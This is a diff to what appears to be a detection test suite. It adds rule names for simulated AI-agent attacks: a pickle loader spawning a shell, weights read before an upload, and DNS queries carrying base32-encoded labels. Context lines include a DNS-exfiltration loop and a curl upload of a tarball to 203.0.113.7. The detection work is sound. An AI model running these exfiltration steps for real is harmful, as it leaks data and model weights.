@@ -192,13 +192,18 @@ REPLICAS = (
             "AI assistant configuration written": ".*(mcp|settings|hooks).json",
             "Agent instructions written by another program": ".*/skills/pdf/.*",
             "Hook or skill of an assistant run": "/bin/true",
+            "Script of an assistant written and then run": "/bin/true",
         },
         'touch("/srv/app/settings.json"); touch("/srv/app/mcp-notes.md"); run("/bin/true")',
     ),
     Replica(
         "pickle",
         PICKLE,
-        {"Shell started by the loader of a pickled model": "/bin/sh", SHELL: "/bin/sh"},
+        {
+            "Shell started by the loader of a pickled model": "/bin/sh",
+            "Pickle opened, then a shell in the same process tree": "/bin/sh",
+            SHELL: "/bin/sh",
+        },
         PICKLE_TWIN,
     ),
     Replica(
@@ -245,7 +250,10 @@ REPLICAS = (
         "for part in range(20):\n"
         "    label = base64.b32encode(os.urandom(35)).decode().lower().strip('=')\n"
         "    resolve(f'{label[:56]}.{part}.x.example.com')",
-        {"Encoded label in a domain name asked for": r"[a-z2-7]{56}\.\d+\.x\.example\.com"},
+        {
+            "Encoded label in a domain name asked for": r"[a-z2-7]{56}\.\d+\.x\.example\.com",
+            "Many long domain names asked for in an AI container": r"[a-z2-7]{56}\..*",
+        },
         "for part in range(20):\n"
         "    resolve(f'shard-{part}.eu-west-1.search-of-our-team.example.com')",
     ),
@@ -286,6 +294,7 @@ REPLICAS = (
         'run("/opt/bin/curl", "-T", "/tmp/m.tar", "http://203.0.113.7/")',
         {
             "Model weights read by a copy or upload tool": "/models/tiny.gguf",
+            "Model weights read, then an upload tool in the same process tree": "/bin/true",
             "File uploaded by a command line tool below an AI agent": "/bin/true",
             "Download tool started by an AI agent": "/bin/true",
         },
